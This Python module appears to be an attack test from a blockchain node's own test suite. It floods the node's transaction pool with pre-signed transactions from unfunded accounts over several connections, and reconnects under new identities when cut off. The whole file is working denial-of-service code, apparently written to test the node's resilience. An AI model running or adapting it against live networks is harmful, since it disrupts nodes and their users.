"""Well-signed transactions of accounts that own nothing: each costs a node a check, the sender nothing."""

import secrets
from functools import partial
from itertools import count

import trio

from chain.modules.balances import Send
from chain.primitives.codec import encode
from chain.primitives.keys import KeyPair
from chain.runtime import build_call
from chain.transaction import Transaction, sign_transaction
from p2p.switch.switch import Switch
from p2p.wire.messages import Transactions
from p2p.wire.protocols import POOL
from p2p.wire.requests import open_stream, send_message
from tests.attacks.target import Target, fetch_height, keep_coming

SECONDS = 25.0
CONNECTIONS = 4
BATCH = 1024
BATCHES = 24
"""Signed before the attack and sent again and again: signing is slower than what the node does with them."""


async def attack(target: Target) -> None:
    """All connections at once; a cut one comes back under a new identity."""
    height = await fetch_height(target)
    batches = [build_batch(target, height) for _ in range(BATCHES)]
    async with trio.open_nursery() as nursery:
        for number in range(CONNECTIONS):
            act = partial(_send, target, batches, number)
            nursery.start_soon(keep_coming, target, target.get_host(number), act)


def build_batch(target: Target, height: int) -> Transactions:
    """Transactions of one account that nobody ever paid."""
    key = KeyPair(secrets.token_bytes(32))
    call = build_call(Send(secrets.token_bytes(32), 1))
    fields = {"valid_until": height + 60, "fee_max": 10**9, "tip": 0, "calls": (call,)}
    unsigned = (
        Transaction(version=1, genesis_hash=target.genesis_hash, sender=key.public_key, nonce=nonce, **fields)
        for nonce in range(BATCH)
    )
    return Transactions(tuple(encode(sign_transaction(key, one)) for one in unsigned))


async def _send(target: Target, batches: list[Transactions], first: int, peer: Switch) -> None:
    async with open_stream(peer, target.place.peer, POOL) as stream:
        for number in count(first):
            await send_message(stream, batches[number % BATCHES])
